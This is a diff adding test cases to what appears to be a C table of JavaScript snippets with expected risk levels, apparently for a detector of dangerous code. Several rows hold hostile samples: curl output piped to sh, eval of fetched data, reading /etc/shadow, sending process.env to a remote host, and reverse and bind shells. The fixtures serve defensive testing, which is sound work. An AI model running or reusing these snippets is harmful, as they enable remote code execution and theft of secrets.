@@ -26,6 +26,17 @@ static const struct { const char *name; int level; const char *code; } row[] = {
 	{ "an answer that is only shown", MEDIUM, "fetch('https://example.com/a').then(r => r.json()).then(j => console.log(j.name));\n" },
 	{ "a download that is converted", MEDIUM, "const fs = require('fs');\nfetch('https://example.com/a.mp4').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('a.mp4', Buffer.from(b)); require('child_process').execFile('ffmpeg', ['-i', 'a.mp4', 'a.mp3']); });\n" },
 	{ "a download piped into a program that is no shell", MEDIUM, "const p = require('child_process').spawn('ffmpeg', ['-i', '-', 'a.mp3']);\nrequire('https').get('https://example.com/a', r => r.pipe(p.stdin));\n" },
+	/* values that take a detour */
+	{ "a table by an unknown key", BLOCKED, "const { spawn } = require('child_process');\nconst t = { linux: ['sh', ['-c', 'curl -s http://198.51.100.7/a | sh']], darwin: ['ls', ['-l']] };\nconst s = t[process.platform];\nspawn(s[0], s[1]);\n" },
+	{ "a table taken apart", BLOCKED, "const t = { a: { c: 'sh', v: ['-c', 'curl -s http://198.51.100.7/a | sh'] }, b: { c: 'ls', v: [] } };\nconst { c, v } = t[process.platform];\nrequire('child_process').spawn(c, v);\n" },
+	{ "a table that is spread", BLOCKED, "const t = { a: ['sh', ['-c', 'curl -s http://198.51.100.7/a | sh']], b: ['ls', []] };\nrequire('child_process').spawn(...t[process.platform]);\n" },
+	{ "the rest of a list", BLOCKED, "const run = ([c, ...rest]) => require('child_process').spawnSync(c, rest);\nrun(['sh', '-c', 'curl -s http://198.51.100.7/a | sh']);\nrun(['ls', '-l']);\n" },
+	{ "what is thrown", BLOCKED, "fetch('https://example.com').then(r => r.json()).then(j => { try { throw new Error(j.m); } catch (e) { eval(e.message); } });\n" },
+	{ "a text in JSON", HIGH, "require('fs').readFileSync(JSON.parse('{\"p\":[\"\\\\u002fetc/shadow\"]}').p[0]);\n" },
+	{ "what an emitter hands on", BLOCKED, "const e = new (require('events'))();\nrequire('net').connect(1, 'example.com').on('data', d => e.emit('go', d));\ne.on('go', c => require('child_process').exec(String(c)));\n" },
+	{ "a module wrapped by a compiler", BLOCKED, "var __importDefault = function (m) { return m && m.__esModule ? m : { default: m }; };\nconst a = __importDefault(require('axios'));\na.default.get('https://example.com').then(r => eval(r.data));\n" },
+	{ "a program written to a file", HIGH, "require('fs').writeFileSync('a.js', \"require('https').get('https://example.com/?' + JSON.stringify(process.env));\");\n" },
+	{ "tools by an unknown key", MEDIUM, "const t = { js: ['eslint', ['.']], py: ['ruff', ['check']] };\nconst [c, a] = t[process.argv[2]];\nrequire('child_process').spawnSync(c, a);\n" },
 	/* shells on connections */
 	{ "a shell on a connection", BLOCKED, "const c = require('net').connect(1, 'example.com'), sh = require('child_process').spawn('/bin/sh');\nc.pipe(sh.stdin); sh.stdout.pipe(c);\n" },
 	{ "a shell for whoever connects", BLOCKED, "require('net').createServer(c => { const sh = require('child_process').spawn('bash', ['-i']); c.on('data', d => sh.stdin.write(d)); }).listen(4000);\n" },
